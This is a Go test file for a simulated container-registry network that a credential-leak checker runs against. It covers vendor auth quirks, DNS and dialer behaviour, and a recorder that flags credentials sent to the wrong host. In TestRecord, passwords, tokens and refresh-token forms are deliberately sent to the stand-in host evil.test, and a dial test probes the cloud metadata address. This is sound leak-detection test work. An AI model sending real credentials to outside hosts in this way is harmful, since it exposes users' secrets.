package regchecktest

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// client uses the resolver and dialer of a test network, like a checker, and follows no redirect.
func client(t *testing.T, g *Registry, config *tls.Config) *http.Client {
	t.Helper()
	if config == nil {
		config = &tls.Config{}
	}
	config.RootCAs = g.Roots()
	transport := &http.Transport{
		TLSClientConfig: config, DisableKeepAlives: true,
		DialContext: func(ctx context.Context, network, address string) (net.Conn, error) {
			host, port, _ := net.SplitHostPort(address)
			addresses, err := g.LookupNetIP(ctx, "ip", host)
			if err != nil {
				return nil, err
			}
			return g.DialContext(ctx, network, net.JoinHostPort(addresses[0].String(), port))
		},
	}
	return &http.Client{Transport: transport, Timeout: time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

type received struct {
	status    int
	challenge []string
	body      string
}

func ask(t *testing.T, c *http.Client, url string, authorize func(*http.Request)) received {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	if authorize != nil {
		authorize(r)
	}
	response, err := c.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	return received{response.StatusCode, response.Header.Values("WWW-Authenticate"), string(body)}
}

func basic(user, password string) func(*http.Request) {
	return func(r *http.Request) { r.SetBasicAuth(user, password) }
}

func token(t *testing.T, a received) func(*http.Request) {
	t.Helper()
	var body struct {
		Token  string `json:"token"`
		Access string `json:"access_token"`
	}
	if err := json.Unmarshal([]byte(a.body), &body); err != nil || a.status != http.StatusOK {
		t.Fatalf("no token in %d %s", a.status, a.body)
	}
	return func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+max(body.Token, body.Access)) }
}

func TestServersStartAndClose(t *testing.T) {
	before := runtime.NumGoroutine()
	for _, name := range Servers() {
		g, err := Open(name)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if _, err := g.Words(); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		g.Close()
		g.Close() // twice is harmless
	}
	for runtime.NumGoroutine() > before { // until the time of the test binary is over, which lists those that are left
		time.Sleep(10 * time.Millisecond)
	}
}

func TestOpenRejectsUnknownName(t *testing.T) {
	if _, err := Open("no such server"); err == nil {
		t.Error("started")
	}
}

// The quirks by which a checker distinguishes products are sent as the products send them.
func TestHarborQuirks(t *testing.T) {
	g := Start(t, "harbor")
	c := client(t, g, nil)
	bare := ask(t, c, "https://registry.test/v2/", nil)
	if bare.status != 401 || !slices.Equal(bare.challenge,
		[]string{`Bearer realm="https://registry.test/service/token",service="harbor-registry"`}) {
		t.Errorf("bare: %+v", bare)
	}
	if a := ask(t, c, "https://registry.test/v2/", basic(User, WrongPassword)); a.status != 401 ||
		a.challenge[0] != `Basic realm="harbor"` {
		t.Errorf("with Authorization the challenge does not turn Basic: %+v", a)
	}
	if a := ask(t, c, "https://registry.test/service/token", basic(User, WrongPassword)); a.status != 401 {
		t.Errorf("scope-less with a wrong password: %+v", a)
	}
	scoped := ask(t, c, "https://registry.test/service/token?scope=repository:charts/nginx:pull", basic(User, WrongPassword))
	if scoped.status != 200 {
		t.Errorf("scoped with a wrong password: %+v", scoped)
	}
	if a := ask(t, c, "https://registry.test/v2/charts/nginx/tags/list", token(t, scoped)); a.status != 401 {
		t.Errorf("the anonymous token opens content: %+v", a)
	}
	robot := basic(RobotUser, RobotPassword)
	for path, want := range map[string]int{"charts/nginx": 200, "charts/unknown": 404, "charts": 400, "images": 400, "missing": 400,
		"images/alpine": 401, "missing/x": 401} {
		got := ask(t, c, "https://registry.test/v2/"+path+"/tags/list", robot)
		if got.status != want {
			t.Errorf("%s: %+v, want %d", path, got, want)
		}
	}
	if a := ask(t, c, "https://registry.test/v2/_catalog", robot); a.status != 401 || a.challenge[0] != `Basic realm="harbor"` {
		t.Errorf("catalog for a robot: %+v", a)
	}
	if a := ask(t, c, "https://registry.test/v2/_catalog", basic(AdminUser, AdminPassword)); a.status != 200 {
		t.Errorf("catalog for the administrator: %+v", a)
	}
	if leaks := g.Leaks(); len(leaks) > 0 {
		t.Errorf("leaks: %v", leaks)
	}
}

func TestProducts(t *testing.T) {
	for _, row := range []struct {
		server, url    string
		user, password string
		status         int
		challenge      string // part of the first line, "" for none at all
		body           string
	}{
		{"ghcr", "/v2/", "", "", 401, `scope="repository:user/image:pull"`, ""},
		{"ghcr", "/token?scope=repository:public/hello:pull", "", "", 200, "", "token"},
		{"ghcr", "/token?scope=repository:user/image:pull", "", "", 401, "", ""},
		{"ghcr", "/token", User, WrongPassword, 403, "", "denied"},
		{"google", "/v2/", "", "", 401, `Bearer realm="https://registry.test/v2/token"`, ""},
		{"google", "/v2/", User, WrongPassword, 401, "", ""},
		{"google", "/v2/token", User, WrongPassword, 401, "", ""},
		{"google", "/v2/token", "", "", 200, "", "token"},
		{"ecr", "/v2/", "", "", 401, `Basic realm="https://registry.test/",service="ecr.amazonaws.com"`, "Not Authorized"},
		{"ecr", "/v2/", "AWS", ExpiredPassword, 403, "", "DENIED"},
		{"ecr", "/v2/", "AWS", Password, 200, "", ""},
		{"ecr-public", "/token/?service=x", "AWS", ExpiredPassword, 400, "", "expired"},
		{"acr", "/v2/", User, WrongPassword, 401, `Basic realm`, ""},
		{"quay", "/v2/", "", "", 401, `Bearer realm="https://registry.test/v2/auth"`, "true"},
		{"artifactory", "/v2/", "", "", 404, "", `"status" : 404`},
		{"artifactory", "/artifactory/api/docker/charts-local/v2/", User, Password, 200, "", ""},
		{"nexus", "/v2/", "", "", 401, `BASIC realm=`, ""},
		{"nexus-anonymous", "/v2/", User, WrongPassword, 200, "", ""},
		{"zot-mixed", "/v2/", "", "", 200, `Basic realm=registry.test/zot`, ""},
		{"zot", "/v2/", User, WrongPassword, 401, `Basic realm=registry.test/zot`, ""},
		{"gitea", "/v2/token", "", "", 200, "", "token"},
		{"gitea-older", "/v2/", "", "", 401, `scope="*"`, ""},
		{"artifactory", "/artifactory/api/docker/charts-local/v2/_catalog?n=2", User, Password, 200, "",
			`"repositories":["acme-project/charts/nginx","charts/nginx"]`},
		{"classic-helm", "/index.yaml", "", "", 200, "", "entries:"},
	} {
		t.Run(row.server+row.url, func(t *testing.T) {
			g := Start(t, row.server)
			var authorize func(*http.Request)
			if row.user != "" {
				authorize = basic(row.user, row.password)
			}
			got := ask(t, client(t, g, nil), "https://registry.test"+row.url, authorize)
			if got.status != row.status || !strings.Contains(got.body, row.body) {
				t.Errorf("%+v, want %d with %q", got, row.status, row.body)
			}
			if (row.challenge == "") != (len(got.challenge) == 0) || row.challenge != "" &&
				!strings.Contains(got.challenge[0], row.challenge) {
				t.Errorf("challenge %q, want %q", got.challenge, row.challenge)
			}
		})
	}
}

// What the record is for: it must find a secret in any place, and distinguish right from wrong places.
func TestRecord(t *testing.T) {
	g := Start(t, "token-redirect-307")
	c := client(t, g, nil)
	ask(t, c, "https://registry.test/v2/", basic(User, Password))
	if leaks := g.Leaks(); len(leaks) != 0 {
		t.Fatalf("leaks at the endpoint: %v", leaks)
	}
	ask(t, c, "https://evil.test/token", basic(User, Password))
	ask(t, c, "https://evil.test/token?p="+Password, nil)
	ask(t, c, "https://registry.test/token?p="+Password, nil) // in a URL it is a leak anywhere
	ask(t, c, "https://evil.test/", func(r *http.Request) { r.Header.Set("X-Token", Token) })
	response, err := c.PostForm("https://evil.test/token",
		map[string][]string{"refresh_token": {Token}, "grant_type": {"refresh_token"}, "client_id": {"x"}})
	if err != nil {
		t.Fatal(err)
	}
	_ = response.Body.Close()
	var kinds []string
	for _, leak := range g.Leaks() {
		kinds = append(kinds, leak.Kind+"@"+leak.At)
	}
	want := []string{"basic@https://evil.test", "url@https://evil.test", "url@https://registry.test",
		"header@https://evil.test", "form@https://evil.test"}
	if !slices.Equal(kinds, want) {
		t.Errorf("leaks %v, want %v", kinds, want)
	}
}

func TestClientCertificateIsRecorded(t *testing.T) {
	g := Start(t, "tls-client-other-host-token")
	words, err := g.Words()
	if err != nil {
		t.Fatal(err)
	}
	pair, err := tls.X509KeyPair([]byte(words["clientCertificate"]), []byte(words["clientKey"]))
	if err != nil {
		t.Fatal(err)
	}
	c := client(t, g, &tls.Config{Certificates: []tls.Certificate{pair}})
	ask(t, c, "https://registry.test/v2/", nil)
	if leaks := g.Leaks(); len(leaks) != 0 {
		t.Fatalf("leaks: %v", leaks)
	}
	ask(t, c, "https://auth.test/token", nil)
	if leaks := g.Leaks(); len(leaks) != 1 || leaks[0].Kind != "clientCertificate" {
		t.Errorf("leaks: %v", leaks)
	}
}

func TestResolverAndDialer(t *testing.T) {
	g := Start(t, "none")
	for host, class := range map[string]string{"unknown.test": "notFound", "empty.test": "notFound", "dns-timeout.test": "timeout",
		"dns-servfail.test": "temporary"} {
		_, err := g.LookupNetIP(t.Context(), "ip", host)
		dns, ok := errors.AsType[*net.DNSError](err)
		got := ""
		switch {
		case !ok:
		case dns.IsNotFound:
			got = "notFound"
		case dns.IsTimeout:
			got = "timeout"
		case dns.IsTemporary:
			got = "temporary"
		}
		if got != class {
			t.Errorf("%s: %v, want %s", host, err, class)
		}
	}
	if _, err := g.DialContext(t.Context(), "tcp", "169.254.169.254:80"); err == nil {
		t.Error("a metadata address was reached")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer cancel()
	_, err := g.DialContext(ctx, "tcp", "10.20.99.2:443")
	if silent, ok := errors.AsType[net.Error](err); !ok || !silent.Timeout() {
		t.Errorf("a silent address: %v", err)
	}
	if !slices.Equal(g.Dials(), []string{"169.254.169.254:80", "10.20.99.2:443"}) {
		t.Errorf("dials: %v", g.Dials())
	}
}

// The digest of each descriptor is that of the content.
func TestContentDigests(t *testing.T) {
	g := Start(t, "open")
	c := client(t, g, nil)
	manifest := ask(t, c, "https://registry.test/v2/charts/nginx/manifests/1.2.3", nil)
	var read struct {
		Config descriptor
		Layers []descriptor
	}
	if err := json.Unmarshal([]byte(manifest.body), &read); err != nil || read.Config.MediaType != helmConfig {
		t.Fatalf("%v in %s", err, manifest.body)
	}
	for _, d := range append(read.Layers, read.Config) {
		blob := ask(t, c, "https://registry.test/v2/charts/nginx/blobs/"+d.Digest, nil)
		if digest([]byte(blob.body)) != d.Digest || len(blob.body) != d.Size {
			t.Errorf("the content does not have the digest %s", d.Digest)
		}
	}
}
